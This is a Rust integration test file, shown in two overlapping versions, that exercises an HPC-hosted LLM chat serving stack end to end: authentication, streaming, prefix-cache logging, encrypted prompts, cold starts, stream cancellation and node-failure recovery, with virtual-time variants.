    // cached tokens in its usage block (engine → api → interface → gateway)
    // and the gateway must tag its usage-log entry with the count.
    let stack = sim_stack();
    let msg = "please summarize our earlier discussion about Slurm-native serving";
    let (status, _first) = stack.chat("intel-neural-7b", msg).unwrap();
    assert_eq!(status, 200);
    let (status, second) = stack.chat("intel-neural-7b", msg).unwrap();
    assert_eq!(status, 200, "{second:?}");
    assert_eq!(
        second.at(&["choices", "0", "message", "content"]).unwrap().as_str().unwrap(),
        "1 2 3 4 5 6 7 8 9 10",
        "cache hit must not change the completion"
    );
    let cached = second.at(&["usage", "cached_tokens"]).unwrap().as_u64().unwrap();
    let prompt = second.at(&["usage", "prompt_tokens"]).unwrap().as_u64().unwrap();
    assert!(cached > 0 && cached < prompt, "cached {cached} of {prompt}");
    // A streaming turn with the same prompt: the usage block rides the
    // final SSE chunk and the gateway's tail extraction must log it too.
    let text = stack.chat_stream("intel-neural-7b", msg).unwrap();
    assert_eq!(text, "1 2 3 4 5 6 7 8 9 10");
    // The gateway logged the hits — still just integers, no content (§6.2).
    let entries = stack.log.entries();
    assert_eq!(entries.len(), 3);
    assert_eq!(entries[0].cached_tokens, 0, "cold first turn");
    assert_eq!(entries[1].cached_tokens, cached);
    assert!(entries[2].cached_tokens > 0, "streaming usage not extracted from SSE tail");
    // And the instance-side metric ticked.
    let m = stack.metrics.render();
    assert!(
        m.contains("llm_prefix_hit_tokens_total{model=\"intel-neural-7b\"}"),
        "prefix-hit counter missing: {m}"
    );
}

#[test]
fn second_model_served_independently() {
    let stack = sim_stack();
    stack.wait_ready("mixtral-8x7b", Duration::from_secs(15)).unwrap();
    let (status, body) = stack.chat("mixtral-8x7b", "go").unwrap();
    assert_eq!(status, 200, "{body:?}");
    assert!(body
        .at(&["choices", "0", "message", "content"])
        .unwrap()
        .as_str()
        .unwrap()
        .starts_with("1 2 3"));
}

#[test]
fn gateway_rejects_unauthenticated_and_unknown_model() {
    let stack = sim_stack();
    // No credentials.
    let r = http::request(
        "POST",
        &format!("{}/v1/m/intel-neural-7b/", stack.gateway_url()),
        &[],
        b"{}",
    )
    .unwrap();
    assert_eq!(r.status, 401);
    // Unknown route.
    let r = http::request(
        "POST",
        &format!("{}/v1/m/gpt-9000/", stack.gateway_url()),
        &[("authorization", "Bearer key-research-0001")],
        b"{}",
    )
    .unwrap();
    assert_eq!(r.status, 404);
}

#[test]
fn sso_web_user_can_chat() {
    let stack = sim_stack();
    let token = stack.sso.login("demo@uni-goettingen.de", "demo-password").unwrap();
    let body = Json::obj()
        .set("messages", vec![Json::obj().set("role", "user").set("content", "hi")])
        .set("stream", false);
    let r = http::request(
        "POST",
        &format!("{}/v1/m/intel-neural-7b/", stack.gateway_url()),
        &[("authorization", &format!("Bearer {token}"))],
        body.dump().as_bytes(),
    )
    .unwrap();
    assert_eq!(r.status, 200);
    // The web user's email is the logged user id.
    assert!(stack.log.entries().iter().any(|e| e.user == "demo@uni-goettingen.de"));
}

#[test]
fn external_gpt4_route_works_and_is_tagged() {
    let stack = sim_stack();
    let body = Json::obj()
        .set("messages", vec![Json::obj().set("role", "user").set("content", "hi")]);
    let r = http::request(
        "POST",
        &format!("{}/v1/m/gpt-4/", stack.gateway_url()),
        &[("authorization", "Bearer key-research-0001")],
        body.dump().as_bytes(),
    )
    .unwrap();
    assert_eq!(r.status, 200);
    assert_eq!(r.json_body().unwrap().str_or("served_by", ""), "external");
    // Students group is blocked from the paid route (§5.8).
    let r = http::request(
        "POST",
        &format!("{}/v1/m/gpt-4/", stack.gateway_url()),
        &[("authorization", "Bearer key-student-0001")],
        body.dump().as_bytes(),
    )
    .unwrap();
    assert_eq!(r.status, 403);
}

#[test]
fn webapp_served_via_gateway() {
    let stack = sim_stack();
    let r = http::get(&format!("{}/chat", stack.gateway_url())).unwrap();
    assert_eq!(r.status, 200);
    assert!(r.body_str().contains("browser"));
}

#[test]
fn slurm_shows_service_jobs_under_functional_account() {
    let stack = sim_stack();
    let jobs = stack.slurm.lock().unwrap().squeue();
    let service_jobs: Vec<_> =
        jobs.iter().filter(|j| j.name.starts_with("svc-")).collect();
    assert!(!service_jobs.is_empty());
    assert!(service_jobs.iter().all(|j| j.account == "svc-chat-ai"));
}

#[test]
fn metrics_cover_all_layers() {
    let stack = sim_stack();
    let _ = stack.chat("intel-neural-7b", "hello").unwrap();
    let m = http::get(&format!("{}/metrics", stack.gateway_url())).unwrap();
    let text = m.body_str();
    for metric in [
        "gw_requests_total",
        "gw_latency_seconds",
        "proxy_infer_seconds",
        "ci_infer_total",
        "sched_ready_instances",
        "llm_requests_total",
    ] {
        assert!(text.contains(metric), "missing {metric} in:\n{text}");
    }
}

// Needs the `pjrt` cargo feature (xla_extension bundle) plus `make
// artifacts`; compiled out otherwise so default tier-1 stays green
// (quarantine note — see DESIGN.md §Substitution-ledger).
#[cfg(feature = "pjrt")]
#[test]
fn pjrt_tiny_model_serves_end_to_end() {
    // The real AOT-compiled JAX/Pallas model through the entire stack.
    let stack = ChatAiStack::start(StackConfig {
        cluster: ClusterSpec::kisski(),
        services: vec![ServiceSpec::pjrt_tiny()],
        load_time_scale: 0.0,
        keepalive: Duration::from_millis(50),
        with_external: false,
        ..Default::default()
    })
    .expect("stack start");
    stack.wait_ready("tiny", Duration::from_secs(60)).unwrap();

    let (status, body) = stack.chat("tiny", "Hello").unwrap();
    assert_eq!(status, 200, "{body:?}");
    let usage = body.get("usage").expect("usage block");
    assert!(usage.u64_or("completion_tokens", 0) >= 1);
    // Determinism: greedy decoding twice gives identical text.
    let a = body.at(&["choices", "0", "message", "content"]).unwrap().clone();
    let (_, body2) = stack.chat("tiny", "Hello").unwrap();
    let b = body2.at(&["choices", "0", "message", "content"]).unwrap().clone();
    assert_eq!(a, b, "greedy decode must be deterministic");
}

#[test]
fn e2ee_chat_hides_plaintext_from_esx_side() {
    // §7.1.4 implemented: the sealed body crosses gateway + proxy + SSH as
    // ciphertext and only the cloud interface decrypts it.
    let stack = sim_stack();
    let secret = "E2EE-SECRET-PROMPT-XYZZY";
    let (status, body) = stack.chat_sealed("intel-neural-7b", secret).unwrap();
    assert_eq!(status, 200, "{body:?}");
    assert_eq!(
        body.at(&["choices", "0", "message", "content"]).unwrap().as_str().unwrap(),
        "1 2 3 4 5 6 7 8 9 10"
    );
    // Nothing ESX-side saw the plaintext (log/metrics checked as proxies
    // for any capture point on the web server).
    assert!(!stack.metrics.render().contains(secret));
    for e in stack.log.entries() {
        assert!(!format!("{e:?}").contains(secret));
    }
}

#[test]
fn scale_from_zero_queues_and_serves() {
    // §7.1.3 implemented: a service with min_instances=0 cold-starts on the
    // first request, which waits in the interface queue and then succeeds.
    let mut spec = ServiceSpec::sim("intel-neural-7b", 0.0);
    spec.min_instances = 0;
    let stack = ChatAiStack::start(StackConfig {
        services: vec![spec],
        load_time_scale: 0.001,
        keepalive: Duration::from_millis(50),
        with_external: false,
        ..Default::default()
    })
    .unwrap();
    // No instance exists until demand arrives.
    std::thread::sleep(Duration::from_millis(300));
    assert!(stack.scheduler.routing.instances("intel-neural-7b").is_empty());

    let t = std::time::Instant::now();
    let (status, body) = stack.chat("intel-neural-7b", "count from 1 to 10").unwrap();
    assert_eq!(status, 200, "{body:?}");
    assert!(
        t.elapsed() > Duration::from_millis(40),
        "should have waited for the cold start"
    );
    assert!(!stack.scheduler.routing.ready_instances("intel-neural-7b").is_empty());
}

#[test]
fn mid_stream_disconnect_frees_engine_slot_across_all_hops() {
    // The tentpole end-to-end: a client hangs up on an SSE stream at the
    // gateway socket; the abort crosses gateway → proxy → SSH CHANNEL_CLOSE
    // → cloud interface → instance HTTP → engine, which frees the batch
    // slot with finish_reason "cancelled". Every layer's cancel counter
    // must tick.
    let stack = ChatAiStack::start(StackConfig {
        // Real pacing so the stream is still in flight when we hang up
        // (~41 ms/token, ~0.9 s per sentence).
        services: vec![ServiceSpec::sim("mixtral-8x7b", 1.0)],
        with_external: false,
        ..Default::default()
    })
    .unwrap();
    stack.wait_ready("mixtral-8x7b", Duration::from_secs(15)).unwrap();

    let body = Json::obj()
        .set("messages", vec![Json::obj().set("role", "user").set("content", "count")])
        .set("stream", true);
    let mut events = 0usize;
    let (status, aborted) = http::request_stream_ctl(
        "POST",
        &format!("{}/v1/m/mixtral-8x7b/", stack.gateway_url()),
        &[
            ("authorization", &format!("Bearer {}", stack.api_key)),
            ("content-type", "application/json"),
        ],
        body.dump().as_bytes(),
        |_| {
            events += 1;
            events < 2 // hang up mid-stream
        },
    )
    .unwrap();
    assert_eq!(status, 200);
    assert!(aborted, "stream finished before we could abandon it");

    // The disconnect propagates the whole way down within a few token
    // writes; poll the shared registry for every layer's evidence.
    for needle in [
        "gw_cancelled_total{route=\"mixtral-8x7b\"} 1",
        "proxy_cancelled_total{service=\"mixtral-8x7b\"} 1",
        "ci_cancelled_total{service=\"mixtral-8x7b\"} 1",
        "llm_stream_cancelled_total{model=\"mixtral-8x7b\"} 1",
        "llm_cancelled_total{model=\"mixtral-8x7b\"} 1",
    ] {
        assert!(
            stack.metrics.wait_for_metric(needle, Duration::from_secs(10)),
            "cancellation never reached this layer ({needle}):\n{}",
            stack.metrics.render()
        );
    }
    // The SSH server saw the client-initiated channel close.
    assert!(
        stack.ssh_server.stats.channels_cancelled.load(std::sync::atomic::Ordering::Relaxed) >= 1
    );
    // And the gateway tagged the usage-log entry.
    let entries = stack.log.entries();
    assert_eq!(entries.len(), 1);
    assert!(entries[0].cancelled, "log entry not tagged cancelled");
}

#[test]
fn node_failure_recovers_end_to_end() {
    // §7.1.1: a GPU node dies under the only instance. The scheduler must
    // observe NODE_FAIL on its next keepalive tick, drop the instance from
    // the routing table, resubmit a replacement, and release the dead
    // instance's reserved port — and the service must come back without
    // operator action.
    let stack = ChatAiStack::start(StackConfig {
        services: vec![ServiceSpec::sim("intel-neural-7b", 0.0)],
        with_external: false,
        ..Default::default()
    })
    .expect("stack start");
    stack.wait_ready("intel-neural-7b", Duration::from_secs(15)).unwrap();
    let inst = stack.scheduler.routing.ready_instances("intel-neural-7b")[0].clone();
    let (status, _) = stack.chat("intel-neural-7b", "hello").unwrap();
    assert_eq!(status, 200, "sanity: service healthy before the failure");

    // The timestamp only feeds job accounting; the failure itself is
    // immediate.
    stack.slurm.lock().unwrap().fail_node(&inst.node, 1);

    // Recovery: a *different* job serves the route, end to end.
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    loop {
        let ready = stack.scheduler.routing.ready_instances("intel-neural-7b");
        if ready.iter().any(|i| i.job_id != inst.job_id) {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no replacement instance became ready after node failure"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(
        stack
            .scheduler
            .routing
            .instances("intel-neural-7b")
            .iter()
            .all(|i| i.job_id != inst.job_id),
        "dead instance still in the routing table"
    );
    // The failed job's reserved port is free again (unless the replacement
    // happened to draw the very same port).
    assert!(
        !stack.scheduler.routing.port_in_use(inst.port)
            || stack
                .scheduler
                .routing
                .instances("intel-neural-7b")
                .iter()
                .any(|i| i.port == inst.port),
        "node failure leaked reserved port {}",
        inst.port
    );
    let (status, body) = stack.chat("intel-neural-7b", "hello again").unwrap();
    assert_eq!(status, 200, "service did not recover: {body:?}");
}

#[test]
fn deadline_ms_propagates_from_client_to_engine() {
    // A relative deadline budget rides the request body end-to-end; the
    // engine is the enforcement point and answers `finish_reason:
    // "deadline"` long before the full sentence is generated.
    let stack = ChatAiStack::start(StackConfig {
        services: vec![ServiceSpec::sim("mixtral-8x7b", 1.0)],
        with_external: false,
        ..Default::default()
    })
    .unwrap();
    stack.wait_ready("mixtral-8x7b", Duration::from_secs(15)).unwrap();

    let body = Json::obj()
        .set("messages", vec![Json::obj().set("role", "user").set("content", "count")])
        .set("stream", false)
        .set("deadline_ms", 200u64);
    let t = std::time::Instant::now();
    let r = http::request(
        "POST",
        &format!("{}/v1/m/mixtral-8x7b/", stack.gateway_url()),
        &[
            ("authorization", &format!("Bearer {}", stack.api_key)),
            ("content-type", "application/json"),
        ],
        body.dump().as_bytes(),
    )
    .unwrap();
    assert_eq!(r.status, 200);
    let j = r.json_body().unwrap();
    assert_eq!(
        j.at(&["choices", "0", "finish_reason"]).unwrap().as_str().unwrap(),
        "deadline"
    );
    // Full sentence would take ~0.9 s of pure decode; the budget cut it.
    assert!(t.elapsed() < Duration::from_millis(800), "{:?}", t.elapsed());
}
