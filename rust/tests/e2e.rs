//! End-to-end integration: the full Figure-1 stack in one process group.
//!
//! These tests cover the complete request path — gateway auth → HPC proxy
//! → SSH ForceCommand → cloud interface → routing table → vLLM-like
//! engine — for both the simulated production models and the real
//! PJRT-compiled `tiny` model.

use std::time::Duration;

use chat_hpc::scheduler::ServiceSpec;
use chat_hpc::slurm::{ClusterSpec, JobSpec, JobState};
use chat_hpc::stack::{ChatAiStack, SimRequest, SimStack, SimStackConfig, StackConfig};
use chat_hpc::util::http;
use chat_hpc::util::json::Json;

fn sim_stack() -> ChatAiStack {
    let stack = ChatAiStack::start(StackConfig {
        services: vec![
            ServiceSpec::sim("intel-neural-7b", 0.0),
            ServiceSpec::sim("mixtral-8x7b", 0.0),
        ],
        ..Default::default()
    })
    .expect("stack start");
    stack.wait_ready("intel-neural-7b", Duration::from_secs(15)).unwrap();
    stack
}

#[test]
fn full_path_chat_completion() {
    let stack = sim_stack();
    let (status, body) = stack.chat("intel-neural-7b", "count from 1 to 10").unwrap();
    assert_eq!(status, 200, "{body:?}");
    assert_eq!(
        body.at(&["choices", "0", "message", "content"]).unwrap().as_str().unwrap(),
        "1 2 3 4 5 6 7 8 9 10"
    );
    // The usage log captured the request with the API consumer id.
    let entries = stack.log.entries();
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0].user, "api-research");
    assert_eq!(entries[0].model, "intel-neural-7b");
}

#[test]
fn full_path_streaming_tokens() {
    let stack = sim_stack();
    let text = stack.chat_stream("intel-neural-7b", "count").unwrap();
    assert_eq!(text, "1 2 3 4 5 6 7 8 9 10");
}

#[test]
fn prefix_cache_usage_flows_through_the_stack() {
    // Two identical chat turns end-to-end: the second must report prefix
    // cached tokens in its usage block (engine → api → interface → gateway)
    // and the gateway must tag its usage-log entry with the count.
    let stack = sim_stack();
    let msg = "please summarize our earlier discussion about Slurm-native serving";
    let (status, _first) = stack.chat("intel-neural-7b", msg).unwrap();
    assert_eq!(status, 200);
    let (status, second) = stack.chat("intel-neural-7b", msg).unwrap();
    assert_eq!(status, 200, "{second:?}");
    assert_eq!(
        second.at(&["choices", "0", "message", "content"]).unwrap().as_str().unwrap(),
        "1 2 3 4 5 6 7 8 9 10",
        "cache hit must not change the completion"
    );
    let cached = second.at(&["usage", "cached_tokens"]).unwrap().as_u64().unwrap();
    let prompt = second.at(&["usage", "prompt_tokens"]).unwrap().as_u64().unwrap();
    assert!(cached > 0 && cached < prompt, "cached {cached} of {prompt}");
    // A streaming turn with the same prompt: the usage block rides the
    // final SSE chunk and the gateway's tail extraction must log it too.
    let text = stack.chat_stream("intel-neural-7b", msg).unwrap();
    assert_eq!(text, "1 2 3 4 5 6 7 8 9 10");
    // The gateway logged the hits — still just integers, no content (§6.2).
    let entries = stack.log.entries();
    assert_eq!(entries.len(), 3);
    assert_eq!(entries[0].cached_tokens, 0, "cold first turn");
    assert_eq!(entries[1].cached_tokens, cached);
    assert!(entries[2].cached_tokens > 0, "streaming usage not extracted from SSE tail");
    // And the instance-side metric ticked.
    let m = stack.metrics.render();
    assert!(
        m.contains("llm_prefix_hit_tokens_total{model=\"intel-neural-7b\"}"),
        "prefix-hit counter missing: {m}"
    );
}

#[test]
fn second_model_served_independently() {
    let stack = sim_stack();
    stack.wait_ready("mixtral-8x7b", Duration::from_secs(15)).unwrap();
    let (status, body) = stack.chat("mixtral-8x7b", "go").unwrap();
    assert_eq!(status, 200, "{body:?}");
    assert!(body
        .at(&["choices", "0", "message", "content"])
        .unwrap()
        .as_str()
        .unwrap()
        .starts_with("1 2 3"));
}

#[test]
fn gateway_rejects_unauthenticated_and_unknown_model() {
    let stack = sim_stack();
    // No credentials.
    let r = http::request(
        "POST",
        &format!("{}/v1/m/intel-neural-7b/", stack.gateway_url()),
        &[],
        b"{}",
    )
    .unwrap();
    assert_eq!(r.status, 401);
    // Unknown route.
    let r = http::request(
        "POST",
        &format!("{}/v1/m/gpt-9000/", stack.gateway_url()),
        &[("authorization", "Bearer key-research-0001")],
        b"{}",
    )
    .unwrap();
    assert_eq!(r.status, 404);
}

#[test]
fn sso_web_user_can_chat() {
    let stack = sim_stack();
    let token = stack.sso.login("demo@uni-goettingen.de", "demo-password").unwrap();
    let body = Json::obj()
        .set("messages", vec![Json::obj().set("role", "user").set("content", "hi")])
        .set("stream", false);
    let r = http::request(
        "POST",
        &format!("{}/v1/m/intel-neural-7b/", stack.gateway_url()),
        &[("authorization", &format!("Bearer {token}"))],
        body.dump().as_bytes(),
    )
    .unwrap();
    assert_eq!(r.status, 200);
    // The web user's email is the logged user id.
    assert!(stack.log.entries().iter().any(|e| e.user == "demo@uni-goettingen.de"));
}

#[test]
fn external_gpt4_route_works_and_is_tagged() {
    let stack = sim_stack();
    let body = Json::obj()
        .set("messages", vec![Json::obj().set("role", "user").set("content", "hi")]);
    let r = http::request(
        "POST",
        &format!("{}/v1/m/gpt-4/", stack.gateway_url()),
        &[("authorization", "Bearer key-research-0001")],
        body.dump().as_bytes(),
    )
    .unwrap();
    assert_eq!(r.status, 200);
    assert_eq!(r.json_body().unwrap().str_or("served_by", ""), "external");
    // Students group is blocked from the paid route (§5.8).
    let r = http::request(
        "POST",
        &format!("{}/v1/m/gpt-4/", stack.gateway_url()),
        &[("authorization", "Bearer key-student-0001")],
        body.dump().as_bytes(),
    )
    .unwrap();
    assert_eq!(r.status, 403);
}

#[test]
fn webapp_served_via_gateway() {
    let stack = sim_stack();
    let r = http::get(&format!("{}/chat", stack.gateway_url())).unwrap();
    assert_eq!(r.status, 200);
    assert!(r.body_str().contains("browser"));
}

#[test]
fn slurm_shows_service_jobs_under_functional_account() {
    let stack = sim_stack();
    let jobs = stack.slurm.lock().unwrap().squeue();
    let service_jobs: Vec<_> =
        jobs.iter().filter(|j| j.name.starts_with("svc-")).collect();
    assert!(!service_jobs.is_empty());
    assert!(service_jobs.iter().all(|j| j.account == "svc-chat-ai"));
}

#[test]
fn metrics_cover_all_layers() {
    let stack = sim_stack();
    let _ = stack.chat("intel-neural-7b", "hello").unwrap();
    let m = http::get(&format!("{}/metrics", stack.gateway_url())).unwrap();
    let text = m.body_str();
    for metric in [
        "gw_requests_total",
        "gw_latency_seconds",
        "proxy_infer_seconds",
        "ci_infer_total",
        "sched_ready_instances",
        "llm_requests_total",
    ] {
        assert!(text.contains(metric), "missing {metric} in:\n{text}");
    }
}

// Needs the `pjrt` cargo feature (xla_extension bundle) plus `make
// artifacts`; compiled out otherwise so default tier-1 stays green
// (quarantine note — see DESIGN.md §Substitution-ledger).
#[cfg(feature = "pjrt")]
#[test]
fn pjrt_tiny_model_serves_end_to_end() {
    // The real AOT-compiled JAX/Pallas model through the entire stack.
    let stack = ChatAiStack::start(StackConfig {
        cluster: ClusterSpec::kisski(),
        services: vec![ServiceSpec::pjrt_tiny()],
        load_time_scale: 0.0,
        keepalive: Duration::from_millis(50),
        with_external: false,
        ..Default::default()
    })
    .expect("stack start");
    stack.wait_ready("tiny", Duration::from_secs(60)).unwrap();

    let (status, body) = stack.chat("tiny", "Hello").unwrap();
    assert_eq!(status, 200, "{body:?}");
    let usage = body.get("usage").expect("usage block");
    assert!(usage.u64_or("completion_tokens", 0) >= 1);
    // Determinism: greedy decoding twice gives identical text.
    let a = body.at(&["choices", "0", "message", "content"]).unwrap().clone();
    let (_, body2) = stack.chat("tiny", "Hello").unwrap();
    let b = body2.at(&["choices", "0", "message", "content"]).unwrap().clone();
    assert_eq!(a, b, "greedy decode must be deterministic");
}

#[test]
fn e2ee_chat_hides_plaintext_from_esx_side() {
    // §7.1.4 implemented: the sealed body crosses gateway + proxy + SSH as
    // ciphertext and only the cloud interface decrypts it.
    let stack = sim_stack();
    let secret = "E2EE-SECRET-PROMPT-XYZZY";
    let (status, body) = stack.chat_sealed("intel-neural-7b", secret).unwrap();
    assert_eq!(status, 200, "{body:?}");
    assert_eq!(
        body.at(&["choices", "0", "message", "content"]).unwrap().as_str().unwrap(),
        "1 2 3 4 5 6 7 8 9 10"
    );
    // Nothing ESX-side saw the plaintext (log/metrics checked as proxies
    // for any capture point on the web server).
    assert!(!stack.metrics.render().contains(secret));
    for e in stack.log.entries() {
        assert!(!format!("{e:?}").contains(secret));
    }
}

#[test]
fn scale_from_zero_queues_and_serves() {
    // §7.1.3 implemented: a service with min_instances=0 cold-starts on the
    // first request, which waits in the interface queue and then succeeds.
    let mut spec = ServiceSpec::sim("intel-neural-7b", 0.0);
    spec.min_instances = 0;
    let stack = ChatAiStack::start(StackConfig {
        services: vec![spec],
        load_time_scale: 0.001,
        keepalive: Duration::from_millis(50),
        with_external: false,
        ..Default::default()
    })
    .unwrap();
    // No instance exists until demand arrives.
    std::thread::sleep(Duration::from_millis(300));
    assert!(stack.scheduler.routing.instances("intel-neural-7b").is_empty());

    let t = std::time::Instant::now();
    let (status, body) = stack.chat("intel-neural-7b", "count from 1 to 10").unwrap();
    assert_eq!(status, 200, "{body:?}");
    assert!(
        t.elapsed() > Duration::from_millis(40),
        "should have waited for the cold start"
    );
    assert!(!stack.scheduler.routing.ready_instances("intel-neural-7b").is_empty());
}

#[test]
#[ignore = "wallclock: real-paced stream (~1s); sim_mid_stream_disconnect_frees_engine_slot covers the path in virtual time"]
fn mid_stream_disconnect_frees_engine_slot_across_all_hops() {
    // The tentpole end-to-end: a client hangs up on an SSE stream at the
    // gateway socket; the abort crosses gateway → proxy → SSH CHANNEL_CLOSE
    // → cloud interface → instance HTTP → engine, which frees the batch
    // slot with finish_reason "cancelled". Every layer's cancel counter
    // must tick.
    let stack = ChatAiStack::start(StackConfig {
        // Real pacing so the stream is still in flight when we hang up
        // (~41 ms/token, ~0.9 s per sentence).
        services: vec![ServiceSpec::sim("mixtral-8x7b", 1.0)],
        with_external: false,
        ..Default::default()
    })
    .unwrap();
    stack.wait_ready("mixtral-8x7b", Duration::from_secs(15)).unwrap();

    let body = Json::obj()
        .set("messages", vec![Json::obj().set("role", "user").set("content", "count")])
        .set("stream", true);
    let mut events = 0usize;
    let (status, aborted) = http::request_stream_ctl(
        "POST",
        &format!("{}/v1/m/mixtral-8x7b/", stack.gateway_url()),
        &[
            ("authorization", &format!("Bearer {}", stack.api_key)),
            ("content-type", "application/json"),
        ],
        body.dump().as_bytes(),
        |_| {
            events += 1;
            events < 2 // hang up mid-stream
        },
    )
    .unwrap();
    assert_eq!(status, 200);
    assert!(aborted, "stream finished before we could abandon it");

    // The disconnect propagates the whole way down within a few token
    // writes; poll the shared registry for every layer's evidence.
    for needle in [
        "gw_cancelled_total{route=\"mixtral-8x7b\"} 1",
        "proxy_cancelled_total{service=\"mixtral-8x7b\"} 1",
        "ci_cancelled_total{service=\"mixtral-8x7b\"} 1",
        "llm_stream_cancelled_total{model=\"mixtral-8x7b\"} 1",
        "llm_cancelled_total{model=\"mixtral-8x7b\"} 1",
    ] {
        assert!(
            stack.metrics.wait_for_metric(needle, Duration::from_secs(10)),
            "cancellation never reached this layer ({needle}):\n{}",
            stack.metrics.render()
        );
    }
    // The SSH server saw the client-initiated channel close.
    assert!(
        stack.ssh_server.stats.channels_cancelled.load(std::sync::atomic::Ordering::Relaxed) >= 1
    );
    // And the gateway tagged the usage-log entry.
    let entries = stack.log.entries();
    assert_eq!(entries.len(), 1);
    assert!(entries[0].cancelled, "log entry not tagged cancelled");
}

#[test]
#[ignore = "wallclock: polls real keepalive ticks (~seconds); sim_node_failure_recovers_end_to_end covers it in virtual time"]
fn node_failure_recovers_end_to_end() {
    // §7.1.1: a GPU node dies under the only instance. The scheduler must
    // observe NODE_FAIL on its next keepalive tick, drop the instance from
    // the routing table, resubmit a replacement, and release the dead
    // instance's reserved port — and the service must come back without
    // operator action.
    let stack = ChatAiStack::start(StackConfig {
        services: vec![ServiceSpec::sim("intel-neural-7b", 0.0)],
        with_external: false,
        ..Default::default()
    })
    .expect("stack start");
    stack.wait_ready("intel-neural-7b", Duration::from_secs(15)).unwrap();
    let inst = stack.scheduler.routing.ready_instances("intel-neural-7b")[0].clone();
    let (status, _) = stack.chat("intel-neural-7b", "hello").unwrap();
    assert_eq!(status, 200, "sanity: service healthy before the failure");

    // The timestamp only feeds job accounting; the failure itself is
    // immediate.
    stack.slurm.lock().unwrap().fail_node(&inst.node, 1);

    // Recovery: a *different* job serves the route, end to end.
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    loop {
        let ready = stack.scheduler.routing.ready_instances("intel-neural-7b");
        if ready.iter().any(|i| i.job_id != inst.job_id) {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no replacement instance became ready after node failure"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(
        stack
            .scheduler
            .routing
            .instances("intel-neural-7b")
            .iter()
            .all(|i| i.job_id != inst.job_id),
        "dead instance still in the routing table"
    );
    // The failed job's reserved port is free again (unless the replacement
    // happened to draw the very same port).
    assert!(
        !stack.scheduler.routing.port_in_use(inst.port)
            || stack
                .scheduler
                .routing
                .instances("intel-neural-7b")
                .iter()
                .any(|i| i.port == inst.port),
        "node failure leaked reserved port {}",
        inst.port
    );
    let (status, body) = stack.chat("intel-neural-7b", "hello again").unwrap();
    assert_eq!(status, 200, "service did not recover: {body:?}");
}

#[test]
#[ignore = "wallclock: real-paced decode (~200ms budget); sim_deadline_budget_cuts_generation_short covers it in virtual time"]
fn deadline_ms_propagates_from_client_to_engine() {
    // A relative deadline budget rides the request body end-to-end; the
    // engine is the enforcement point and answers `finish_reason:
    // "deadline"` long before the full sentence is generated.
    let stack = ChatAiStack::start(StackConfig {
        services: vec![ServiceSpec::sim("mixtral-8x7b", 1.0)],
        with_external: false,
        ..Default::default()
    })
    .unwrap();
    stack.wait_ready("mixtral-8x7b", Duration::from_secs(15)).unwrap();

    let body = Json::obj()
        .set("messages", vec![Json::obj().set("role", "user").set("content", "count")])
        .set("stream", false)
        .set("deadline_ms", 200u64);
    let t = std::time::Instant::now();
    let r = http::request(
        "POST",
        &format!("{}/v1/m/mixtral-8x7b/", stack.gateway_url()),
        &[
            ("authorization", &format!("Bearer {}", stack.api_key)),
            ("content-type", "application/json"),
        ],
        body.dump().as_bytes(),
    )
    .unwrap();
    assert_eq!(r.status, 200);
    let j = r.json_body().unwrap();
    assert_eq!(
        j.at(&["choices", "0", "finish_reason"]).unwrap().as_str().unwrap(),
        "deadline"
    );
    // Full sentence would take ~0.9 s of pure decode; the budget cut it.
    assert!(t.elapsed() < Duration::from_millis(800), "{:?}", t.elapsed());
}

// ---------------------------------------------------------------------------
// Virtual-time variants: the same scenarios on `SimStack`, where the serving
// path runs single-threaded against a discrete-event clock. Days of traffic
// simulate in milliseconds and every run is bit-identical for a fixed seed
// (see tests/sim_determinism.rs for the replay suite).
// ---------------------------------------------------------------------------

#[test]
fn sim_mid_stream_disconnect_frees_engine_slot() {
    // A client hangs up mid-generation: the record closes with
    // `client_disconnect`, the engine frees the batch slot as a
    // cancellation, and a follow-up request completes normally.
    let stack = SimStack::start(SimStackConfig {
        seed: 21,
        services: vec![ServiceSpec::sim("mixtral-8x7b", 1.0)],
        ..Default::default()
    });
    // The replica loads for 120 virtual seconds; the victim arrives at
    // t=130s and is cancelled 500ms in — about 10 tokens into the ~900ms
    // sentence (~41ms/token).
    let victim = stack.submit_chat_at(
        130_000_000,
        SimRequest {
            model: "mixtral-8x7b".into(),
            max_tokens: 64,
            ..Default::default()
        },
    );
    stack.cancel_at(victim, 130_500_000);
    let survivor = stack.submit_chat_at(
        131_000_000,
        SimRequest {
            model: "mixtral-8x7b".into(),
            max_tokens: 64,
            ..Default::default()
        },
    );
    assert!(stack.run_until_settled(Duration::from_secs(600)), "requests never settled");

    let recs = stack.records();
    let v = recs.iter().find(|r| r.id == victim).unwrap();
    assert_eq!(v.finish_reason, "client_disconnect", "{v:?}");
    assert!(v.placed_job.is_some(), "victim was cancelled before placement");
    let s = recs.iter().find(|r| r.id == survivor).unwrap();
    assert_eq!(s.finish_reason, "stop", "slot not reusable after the disconnect: {s:?}");
    assert!(s.ttft_us.is_some());
    let m = stack.metrics().render();
    assert!(
        m.contains("llm_cancelled_total{model=\"mixtral-8x7b\"} 1"),
        "engine never observed the disconnect:\n{m}"
    );
}

#[test]
fn sim_node_failure_recovers_end_to_end() {
    // §7.1.1 in virtual time: the only replica's node dies; the next
    // keepalive tick reconciles (decommission + replacement submission)
    // and a later request is served by a *different* job.
    let stack = SimStack::start(SimStackConfig::default());
    let first = stack.submit_chat_at(40_000_000, SimRequest::default());
    stack.run_until_us(45_000_000);
    assert_eq!(stack.records().len(), 1, "sanity: service healthy before the failure");
    let inst = stack.scheduler().routing.ready_instances("intel-neural-7b")[0].clone();

    stack.fail_node_at(&inst.node, 50_000_000);
    // Replacement: resubmitted ~55s, 30s model load, ready ~90s.
    let second = stack.submit_chat_at(100_000_000, SimRequest::default());
    assert!(stack.run_until_settled(Duration::from_secs(600)), "requests never settled");

    let recs = stack.records();
    let a = recs.iter().find(|r| r.id == first).unwrap();
    let b = recs.iter().find(|r| r.id == second).unwrap();
    assert!(matches!(a.finish_reason.as_str(), "stop" | "length"), "{a:?}");
    assert!(matches!(b.finish_reason.as_str(), "stop" | "length"), "{b:?}");
    assert_ne!(a.placed_job, b.placed_job, "replacement must be a different job");

    let instances = stack.scheduler().routing.instances("intel-neural-7b");
    assert!(
